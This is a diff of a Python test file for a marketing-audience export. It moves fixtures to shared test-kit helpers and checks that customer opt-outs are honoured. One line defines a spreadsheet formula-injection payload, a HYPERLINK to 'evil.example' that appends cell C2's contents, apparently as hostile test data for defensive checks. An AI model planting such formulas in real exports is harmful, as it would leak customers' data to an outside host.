@@ -14,15 +14,17 @@ from deltalake import DeltaTable
 from pyspark.sql import SparkSession
 
 from basketry.access.withdrawals import DELIVERED, withdrawals_of
-from basketry.config.settings import Settings
-from basketry.domains.marketing import export, job
+from basketry.domains.marketing import export
 from basketry.domains.marketing.job import read_closed_channels
 from basketry.domains.offers.inputs import read_opted_out
 from basketry.lake.lakehouse import Lakehouse
 from basketry.lake.report import JobReport
 from basketry.tables import CUSTOMERS, HANDOVERS, MARKETING_AUDIENCE, OPT_OUTS, ORDER_LINES
-from tests.basketry.domains.marketing.conftest import arguments
-from tests.basketry.domains.marketing.shop import AS_OF, LINEAGE, SALES, customer, put, sale
+from tests.basketry.domains.marketing.shop import AS_OF, SALES, sale
+from tests.kit.jobs import run_job
+from tests.kit.lake import a_lake, put, stored
+from tests.kit.registry import registry_at
+from tests.kit.rows import customer, opt_out
 
 EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
 PEOPLE = (
@@ -44,36 +46,25 @@ BEFORE = (("A01", "email"), ("A04", "phone"), ("A10", "carrier pigeon"), ("A11",
 AFTER = (("A08", "all"), ("A12", "EMAIL "))
 
 
-def opt_out(lake: Lakehouse, *rows: tuple[str, str]) -> None:
-    """These are all opt-outs that are known, none with a day."""
-    put(lake, OPT_OUTS, [{"customer_id": who, "channel": word, "opted_out_on": None, **LINEAGE} for who, word in rows])
-
-
 @pytest.fixture(scope="module")
 def town(spark: SparkSession, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
     """An audience as it was before A08 and A12 withdrew, and the export after that."""
     home: Path = tmp_path_factory.mktemp("withdrawals")
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setenv("BASKETRY_HOME", str(home))
-        patch.delenv("BASKETRY_RUNTIME", raising=False)
-        patch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{home / 'mlflow.db'}")
-        lake = Lakehouse(spark, "demo", Settings.from_environment())
-        put(lake, CUSTOMERS, list(PEOPLE))
-        of_the_day = sale("O9", None, "P1", AS_OF, amount="1")  # without it the day counts as not delivered
-        put(lake, ORDER_LINES, [SALES[0], of_the_day])
-        opt_out(lake, *BEFORE)
-        job.run(lake, arguments())
-        export.run(lake, arguments())
-        opt_out(lake, *BEFORE, *AFTER)
-        rehearsed = export.run(lake, arguments(dry_run=True))
-        yield {"lake": lake, "dry": rehearsed, "export": export.run(lake, arguments())}
+    of_the_day = sale("O9", None, "P1", AS_OF, amount="1")  # without it the day counts as not delivered
+    with registry_at(f"sqlite:///{home / 'mlflow.db'}"):
+        lake = a_lake(spark, home, {CUSTOMERS: PEOPLE, ORDER_LINES: [SALES[0], of_the_day]})
+        put(lake, OPT_OUTS, [opt_out(*said) for said in BEFORE])
+        run_job(lake, "audience", as_of=AS_OF)
+        run_job(lake, "export_audience", as_of=AS_OF)
+        put(lake, OPT_OUTS, [opt_out(*said) for said in (*BEFORE, *AFTER)])
+        rehearsed = run_job(lake, "export_audience", as_of=AS_OF, dry_run=True)
+        yield {"lake": lake, "dry": rehearsed, "export": run_job(lake, "export_audience", as_of=AS_OF)}
 
 
 @pytest.fixture
 def people(town: dict[str, Any]) -> dict[str, dict[str, Any]]:
     """The audience by customer."""
-    rows = DeltaTable(town["lake"].path(MARKETING_AUDIENCE)).to_pyarrow_table().to_pylist()
-    return {row["customer_id"]: row for row in rows}
+    return {row["customer_id"]: row for row in stored(town["lake"], MARKETING_AUDIENCE)}
 
 
 def handed(town: dict[str, Any]) -> dict[str, tuple[str, dict[str, str]]]:
@@ -127,7 +118,7 @@ def test_files_that_are_written_again_heed_it_too(town: dict[str, Any]) -> None:
         export.write_export(lake, AS_OF)
         assert set(handed(town)) == {"A07", "A09", "A12"}
     finally:
-        opt_out(lake, *BEFORE, *AFTER)
+        put(lake, OPT_OUTS, [opt_out(*said) for said in (*BEFORE, *AFTER)])
         export.write_export(lake, AS_OF)
 
 
